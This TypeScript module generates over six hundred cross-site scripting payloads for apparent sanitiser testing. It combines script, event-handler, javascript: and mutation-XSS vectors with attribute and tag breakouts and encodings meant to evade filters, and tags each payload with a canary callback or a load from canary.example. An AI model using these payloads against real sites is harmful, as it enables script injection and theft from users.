/** One hostile text. `id` stands in it, so that it is known where it was shown and which of them was carried out. */
export interface Payload {
  id: string;
  text: string;
}

/** Ways to have something carried out or fetched, by whom it would be seen: `CALL` calls the canary, `AWAY` leaves our origin. */
const vectors = [
  '<script>CALL</script>',
  '<script src="AWAY"></script>',
  '<img src=x onerror=CALL>',
  '<img src="AWAY">',
  '<svg onload=CALL>',
  '<svg/onload=CALL//',
  '<svg><script>CALL</script></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:CALL"><text y=20>x</text></a></svg>',
  '<body onload=CALL>',
  '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
  '<iframe src="javascript:parent.CALL"></iframe>',
  '<iframe src="AWAY"></iframe>',
  '<object data="javascript:CALL"></object>',
  '<embed src="javascript:CALL">',
  '<details open ontoggle=CALL>x</details>',
  '<input autofocus onfocus=CALL>',
  '<textarea autofocus onfocus=CALL></textarea>',
  '<video><source onerror=CALL></video>',
  '<audio src=x onerror=CALL></audio>',
  '<a href="javascript:CALL">x</a>',
  '<form action="javascript:CALL"><button autofocus>x</button></form>',
  '<style>@import "AWAY";</style>',
  '<link rel=stylesheet href="AWAY">',
  '<meta http-equiv=refresh content="0;url=AWAY">',
  '<base href="AWAY">',
  '<div style="background:url(AWAY)">x</div>',
  '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=CALL>x</p>',
  '<math><mtext><form><mglyph><style></math><img src onerror=CALL>',
  '<template shadowrootmode=open><img src=x onerror=CALL></template>',
];

/** What the text may stand in, and how one gets out of it. */
const contexts: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `' autofocus onfocus=x>${vector}`,
  (vector) => `</textarea></title></style></script>${vector}`,
  (vector) => `-->]]>${vector}<!--`,
];

/** How it may slip past who looks for it, to be put together again by who decodes once too often. */
const encodings: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w+)/g, (_all, name: string) => `<${mixed(name)}`).replace(/javascript/g, 'jAvA\tScRiPt'),
  (text) => text.replace(/[<>"'&]/g, (character) => `&#x${character.charCodeAt(0).toString(16)};`),
  (text) => text.replace(/[<>"'%]/g, (character) => `%${character.charCodeAt(0).toString(16)}`),
]; // prettier-ignore

/** Not markup: addresses, Markdown, templates, and characters that turn the reading round. */
const others = [
  'javascript:CALL',
  'JaVa\tScRiPt:CALL',
  '\u0001javascript:CALL',
  'data:text/html,<script>CALL</script>',
  'vbscript:CALL',
  '[x](javascript:CALL)',
  '![x](AWAY)',
  '<https://a.example/"onmouseover=CALL//>',
  'https://a.example/"><img src=x onerror=CALL>',
  "https://a.example/' onfocus=CALL autofocus x='",
  '{{constructor.constructor("CALL")()}}',
  '${CALL}#{CALL}<%=CALL%>',
  '\u202eCALL<script>\u2066',
  '\ufeff<script>CALL</script>\u2028CALL\u2029',
];

const mixed = (name: string) =>
  [...name].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join('');

export const awayHost = 'canary.example';

/** Every vector in every context in every encoding, and the others: more than six hundred. */
export function xssPayloads(): Payload[] {
  const texts = [
    ...vectors.flatMap((vector) =>
      contexts.flatMap((context) => encodings.map((encode) => (text: string) => encode(context(text))).map((make) => ({ vector, make }))),
    ),
    ...others.map((vector) => ({ vector, make: (text: string) => text })),
  ];
  return texts.map(({ vector, make }, index) => {
    const id = `n${String(index).padStart(4, '0')}n`;
    const filled = vector.replaceAll('CALL', `canary(\`${id}\`)`).replaceAll('AWAY', `https://${awayHost}/${id}`);
    return { id, text: make(filled) };
  });
} // prettier-ignore
